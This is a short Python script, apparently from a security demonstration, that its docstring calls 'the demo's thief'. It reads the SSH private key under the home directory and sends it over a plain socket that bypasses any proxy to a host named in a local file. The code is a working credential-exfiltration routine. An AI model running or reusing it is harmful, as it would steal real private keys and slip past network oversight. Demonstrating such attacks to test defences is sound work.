"""The demo's thief: sends the demo's own false key to the demo's own server on this machine, by a plain
socket that knows of no proxy."""

import os
import socket
import sys

home = os.environ["HOME"]
here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(here, "endpoint")) as file:
    host, port = file.read().split()
with open(os.path.join(home, ".ssh", "id_ed25519"), "rb") as key:
    loot = key.read()
try:
    with socket.create_connection((host, int(port))) as server:
        server.sendall(loot)
except OSError as error:
    sys.exit(f"report.py: {error}")
